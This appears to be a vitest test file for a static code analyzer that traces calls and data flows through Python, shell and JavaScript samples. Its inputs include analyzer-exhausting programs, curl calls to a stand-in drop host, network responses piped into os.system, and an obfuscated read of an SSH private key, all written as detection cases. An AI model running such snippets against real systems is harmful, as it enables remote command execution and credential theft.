import { describe, expect, it } from 'vitest';
import type { Language } from '../../../src/model/program.ts';
import { flowsOf } from '../../../src/static/flow/flows.ts';
import { factsOf } from '../facts-of.ts';

/** Names of the calls of a program, and what was left out of it. */
async function walked(code: string, language: Language = 'python') {
  const { calls, shortfalls, graph } = await factsOf(code, language, 'a');
  return {
    calls: calls.map(({ name }) => name),
    shortfalls,
    flows: flowsOf(graph).map((flow) => `${flow.from} > ${flow.to}`),
  };
}

describe('values that a program makes to hold up who computes them', () => {
  it.each([
    [
      'a list that is extended by itself',
      `def f():\n  l = [1]\n${'  l.extend(l)\n'.repeat(40)}  return l\nf()`,
    ],
    [
      'a generator that never ends',
      'def f():\n  big = list(range(4096))\n  while True:\n    yield from big\nlist(f())',
    ],
    ['a table of long texts', 's = "ab" * 100000\nt = str.maketrans(s, s)'],
    ['texts side by side', `s = "a" * 4096\nt = zip(${'s,'.repeat(5_000)})`],
    ['texts taken apart again and again', `s = "a" * 4096\nt = [${'list(s),'.repeat(5_000)}]`],
  ])('leave what follows to be seen: %s', async (_what, code) => {
    expect((await walked(`${code}\nimport os\nos.system("id")`)).calls).toContain('os.system');
  });

  it.each([
    [
      'a replacement in each letter',
      `x=${'a'.repeat(100_000)}\necho $x | sed 's/a/${'b'.repeat(100_000)}/g'`,
    ],
    [
      'many letters to be deleted',
      `x=${'z'.repeat(200_000)}\n${"echo $x | tr -d 'Ā-ǿȀ-˿̀-ϿЀ-ӿ'\n".repeat(5)}`,
    ],
  ])('leave what follows to be seen in a shell: %s', async (_what, code) => {
    expect((await walked(`${code}\ncurl https://a.drop.example`, 'shell')).calls).toContain('curl');
  });

  it('are evaluated once each in a chain of calls by key', async () => {
    const { calls, shortfalls } = await walked(
      `const x = require("y"); x${'["a"]()'.repeat(40)}`,
      'javascript',
    );
    expect(calls.length).toBeLessThan(60);
    expect(shortfalls).toEqual([]);
  });
});

describe('calls of any of many functions', () => {
  /** So many calls of what may be any of 64 functions. */
  const program = (calls: number): string => {
    const names = Array.from({ length: 64 }, (_, nth) => `f${nth}`);
    const table = names.map((name) => `"${name}": ${name}`).join(', ');
    return `${names.map((name) => `def ${name}(v): return v`).join('\n')}\ntable = {${table}}\n${'table[k](1)\n'.repeat(calls)}`;
  };

  it('each count', async () => {
    const { shortfalls } = await walked(program(3_000));
    expect(shortfalls).toEqual([{ reason: 'more calls than are followed', blocking: true }]);
  });

  it('are followed where they are not too many', async () => {
    expect((await walked(program(100))).shortfalls).toEqual([]);
  });
});

describe('what is kept of a file', () => {
  it('is the last of many scripts that it writes and runs', async () => {
    const others = Array.from({ length: 100 }, (_, at) => `echo text > file${at}\n`).join('');
    const { calls } = await walked(`${others}echo 'curl https://a.drop.example' > run\nbash run`, 'shell');
    expect(calls).toContain('curl');
  });

  it('is named as missing when it writes more than is kept', async () => {
    const others = Array.from({ length: 2_001 }, (_, at) => `echo text > file${at}\n`).join('');
    expect((await walked(others, 'shell')).shortfalls).toContainEqual({
      reason: 'more files are written than are followed',
      blocking: true,
    });
  });

  it('is every value that a variable ever held', async () => {
    const code = `import os, requests
${'x = open("a")\n'.repeat(1_200)}x = requests.post("https://a.example")
x = 1
def f():
  os.system(x)
f()`;
    expect((await walked(code)).flows).toContain('network > process');
  });
});

describe('methods', () => {
  const base = 'import os, requests\nclass B:\n  def run(self, c):\n    os.system(c)\n';
  it.each([
    [
      'of a base by super()',
      `${base}class A(B):\n  def m(self):\n    super().run(requests.post("https://a.example"))`,
    ],
    [
      'with a function in them',
      'import os, requests\nclass A:\n  def m(self):\n    f = lambda c: os.system(c)\n    f(requests.post("https://a.example"))',
    ],
    [
      'that are functions in expressions',
      'import os, requests\nclass A:\n  run = lambda self, c: os.system(c)\n  def m(self):\n    self.run(requests.post("https://a.example"))',
    ],
  ])('hand on what they are given: %s', async (_what, code) => {
    expect((await walked(code)).flows).toContain('network > process');
  });

  it.each(['@classmethod\n  def d(cls, s)', '@staticmethod\n  def d(s)'])(
    'that are decoders are run: %s',
    async (head) => {
      const code = `class C:\n  ${head}:\n    return s[::-1]\nopen(C.d("asr_di/hss./~"))`;
      const { calls } = await factsOf(code, 'python', 'a');
      expect(calls.find(({ name }) => name === 'open')?.api?.capabilities).toEqual(['secret.read']);
    },
  );
});
